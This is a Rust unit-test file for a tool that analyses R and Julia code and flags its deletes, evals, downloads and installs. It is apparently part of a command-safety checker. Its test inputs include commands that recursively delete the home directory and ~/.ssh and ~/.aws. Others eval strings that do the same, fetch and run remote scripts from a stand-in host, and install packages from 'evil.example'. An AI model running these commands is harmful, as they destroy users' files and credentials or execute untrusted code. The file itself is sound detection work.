//! Unit tests of R and Julia calls reached indirectly, written from R's `base` (`function`,
//! `\(x)`, `|>`, `eval`, `parse`, `str2lang`, `source`), `utils` (`download.file`,
//! `install.packages`), `purrr` (formulas), `magrittr` (`%>%`), `remotes`, and Julia's `Base`
//! (`->`, `|>`, `eval`, `Meta.parse`, `include_string`, `include`, `asyncmap`), `Downloads`
//! and `Pkg`.

use super::tests::runs;
use crate::effects::inline::tests::table;
use crate::effects::language::Language::{Julia, R};

#[test]
fn anonymous_functions_take_the_items_of_their_list() {
    // The project's own output, cleared: deletes inside the project.
    assert_eq!(
        runs(
            R,
            r#"lapply(list.files("out", full.names=TRUE), function(p) unlink(p))"#
        ),
        ["delete:out/*:false"]
    );
    assert_eq!(
        runs(R, r#"purrr::walk(list.files("out"), ~ unlink(.x))"#),
        ["delete:*:false"]
    );
    assert_eq!(
        runs(R, r#"sapply(dir("tmp"), \(f) file.remove(f))"#),
        ["delete:*:false"]
    );
    assert_eq!(
        runs(Julia, r#"foreach(f -> rm(f), readdir("out"; join=true))"#),
        ["delete:out/*:false"]
    );
    assert_eq!(
        runs(
            Julia,
            r#"map(x -> rm(x; force=true), readdir("build"; join=true))"#
        ),
        ["delete:build/*:false"]
    );
    // The home's files, by the same shapes.
    assert_eq!(
        runs(
            R,
            r#"lapply(list.files("~", all.files=TRUE, full.names=TRUE), function(p) unlink(p, recursive=TRUE))"#
        ),
        ["delete:~/*:true"]
    );
    assert_eq!(
        runs(
            R,
            r#"lapply(c("~/.ssh", "~/.aws"), \(d) unlink(d, recursive=TRUE))"#
        ),
        ["delete:~/.ssh:true", "delete:~/.aws:true"]
    );
    assert_eq!(
        runs(
            Julia,
            "foreach((f) -> rm(f; recursive=true), readdir(homedir(); join=true))"
        ),
        ["delete:~/*:true"]
    );
    // `Map(function(a, b) …, X, Y)`: each parameter takes its own list.
    assert_eq!(
        runs(
            R,
            r#"Map(function(a, b) system(paste0("cp ", a, " ", b)), "x.csv", "out/")"#
        ),
        ["line:system:cp x.csv out/"]
    );
    // The function and the list named (`X =`, `FUN =`).
    assert_eq!(
        runs(
            R,
            r#"lapply(X = list.files("~", full.names = TRUE), FUN = function(p) unlink(p, recursive = TRUE))"#
        ),
        ["delete:~/*:true"]
    );
    assert_eq!(
        runs(R, r#"lapply(c("~/.ssh"), FUN = unlink, recursive = TRUE)"#),
        ["delete:~/.ssh:true"]
    );
    // Functions that compute, and a list known only at run time.
    assert_eq!(
        runs(
            R,
            "lapply(1:10, function(i) print(i)); purrr::map(df, ~ mean(.x))"
        ),
        Vec::<String>::new()
    );
    assert_eq!(
        runs(R, "lapply(files, function(p) unlink(p))"),
        ["unsure:`unlink` with a path known only at run time"]
    );
}

#[test]
fn names_and_pipes_that_hide_a_call_are_read_as_the_call() {
    assert_eq!(
        runs(R, r#"f <- unlink; f("~", recursive=TRUE)"#),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(Julia, "g = rm; g(homedir(); recursive=true)"),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(R, r#"x <- "~"; x |> unlink(recursive=TRUE)"#),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(R, r#""~" %>% unlink(recursive = TRUE)"#),
        ["delete:~:true"]
    );
    assert_eq!(
        runs(Julia, "homedir() |> x -> rm(x; recursive=true)"),
        ["delete:~:true"]
    );
    assert_eq!(runs(Julia, r#""build" |> rm"#), ["delete:build:false"]);
    assert_eq!(
        runs(Julia, "asyncmap(rm, readdir(homedir(); join=true))"),
        ["delete:~/*:false"]
    );
    // Pipes of data through functions that compute.
    assert_eq!(
        runs(
            R,
            "mtcars |> filter(cyl > 4) |> summarise(n = n()); mtcars %>% head() %>% print()"
        ),
        Vec::<String>::new()
    );
    assert_eq!(
        runs(Julia, "data = [1, 2]; data |> sum |> println"),
        Vec::<String>::new()
    );
    assert_eq!(
        runs(R, "files |> unlink(recursive=TRUE)"),
        ["unsure:`unlink` with a path known only at run time"]
    );
}

#[test]
fn code_parsed_from_a_string_is_read_as_code() {
    assert_eq!(
        runs(R, r#"eval(parse(text = "unlink('~', recursive=TRUE)"))"#),
        ["code:eval:unlink('~', recursive=TRUE)"]
    );
    assert_eq!(
        runs(R, r#"eval(str2lang("system('make')"))"#),
        ["code:eval:system('make')"]
    );
    assert_eq!(
        runs(
            Julia,
            r#"include_string(Main, "rm(homedir(); recursive=true)")"#
        ),
        ["code:include_string:rm(homedir(); recursive=true)"]
    );
    assert_eq!(
        runs(
            Julia,
            r#"eval(Meta.parse("rm(homedir(); recursive=true)"))"#
        ),
        ["code:eval:rm(homedir(); recursive=true)"]
    );
    // Code known only at run time asks with its cause; a quoted expression is read in place.
    assert_eq!(
        runs(R, "eval(parse(text = cmd))"),
        ["unsure:`eval` of code known only at run time"]
    );
    assert_eq!(
        runs(Julia, "eval(Meta.parse(s))"),
        ["unsure:`eval` of code known only at run time"]
    );
    assert_eq!(
        runs(R, "eval(quote(unlink(\"~\", recursive = TRUE)))"),
        ["delete:~:true"]
    );
    // Through the lens: the parsed code's delete is judged.
    table(&[
        (
            r#"Rscript -e 'eval(parse(text = "unlink(\"~\", recursive=TRUE)"))'"#,
            &["delete ~ recursively"],
        ),
        (
            r#"julia -e 'include_string(Main, "rm(homedir(); recursive=true)")'"#,
            &["delete ~ recursively"],
        ),
    ]);
}

#[test]
fn julia_does_not_expand_a_literal_tilde() {
    assert_eq!(
        runs(Julia, r#"rm("~"; recursive=true)"#),
        ["delete:./~:true"]
    );
    assert_eq!(
        runs(Julia, r#"rm("~/.ssh"; recursive=true)"#),
        ["delete:./~/.ssh:true"]
    );
    assert_eq!(
        runs(Julia, r#"rm(expanduser("~"); recursive=true)"#),
        ["delete:~:true"]
    );
    // R's file functions expand it (`path.expand`).
    assert_eq!(runs(R, r#"unlink("~", recursive=TRUE)"#), ["delete:~:true"]);
}

#[test]
fn downloads_run_and_installs_from_other_sources() {
    table(&[
        (
            r#"Rscript -e 'source("https://x.example/a.R")'"#,
            &["send https://x.example/a.R GET [] runs"],
        ),
        (
            r#"Rscript -e 'download.file("https://x.example/a.R", "a.R"); source("a.R")'"#,
            &["send https://x.example/a.R GET [] runs"],
        ),
        (
            r#"Rscript -e 'download.file("https://x.example/i.sh", "i.sh"); system("bash i.sh")'"#,
            &[
                "send https://x.example/i.sh GET [] runs",
                "run bash i.sh",
                "read i.sh",
            ],
        ),
        (
            r#"julia -e 'include(download("https://x.example/a.jl"))'"#,
            &["send https://x.example/a.jl GET [] runs"],
        ),
        (
            r#"Rscript -e 'download.file("https://example.com/d.csv", "d.csv"); d <- read.csv("d.csv")'"#,
            &["send https://example.com/d.csv GET []"],
        ),
        (r#"Rscript -e 'install.packages("dplyr")'"#, &[]),
        (r#"julia -e 'using Pkg; Pkg.add("DataFrames")'"#, &[]),
        (
            r#"Rscript -e 'library(ggplot2); source("analysis.R")'"#,
            &[],
        ),
    ]);
    // The source an install names is kept (the policy judges its host).
    let install = |manager: &str, spec: &str, source: &str| {
        format!(
            "Install {{ manager: {manager:?}, packages: [Arg {{ text: {spec:?}, dynamic: false }}], source: Some({source:?}) }}"
        )
    };
    assert_eq!(
        runs(R, r#"devtools::install_github("u/r")"#),
        [install("R", "u/r", "https://github.com/u/r")]
    );
    assert_eq!(
        runs(R, r#"install.packages("x", repos="http://evil.example")"#),
        [install("R", "x", "http://evil.example")]
    );
    assert_eq!(
        runs(
            Julia,
            r#"Pkg.add(PackageSpec(url="https://x.example/P.jl"))"#
        ),
        [install(
            "julia",
            "https://x.example/P.jl",
            "https://x.example/P.jl"
        )]
    );
    assert_eq!(
        runs(R, "install.packages(pkgs, repos = mirror)"),
        ["unsure:`install.packages` with a repository known only at run time"]
    );
}
